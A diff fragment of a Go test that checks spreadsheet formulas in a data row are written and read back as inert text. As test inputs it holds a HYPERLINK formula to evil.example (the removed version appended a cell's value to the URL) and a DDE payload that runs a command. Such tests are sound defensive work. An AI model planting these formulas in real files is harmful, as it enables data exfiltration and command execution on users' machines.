@@ -19,7 +19,7 @@ import (
 // cell formatted as text, and reads it back as written.
 func TestFormulasNeverReachAWorkbook(t *testing.T) {
 	fx := newFixture(t)
-	hyperlink := `=HYPERLINK("http://evil.example/?id="&I5,"ดูรายละเอียด")`
+	hyperlink := `=HYPERLINK("http://evil.example/","ดูรายละเอียด")`
 	dde := "=cmd|' /C calc'!A0"
 	bad := templateRow(1, "41020000011", id(1), "กุดจับ", "กุดจับ", 4, "หนี้สิน", "", "", "")
 	bad[12] = hyperlink
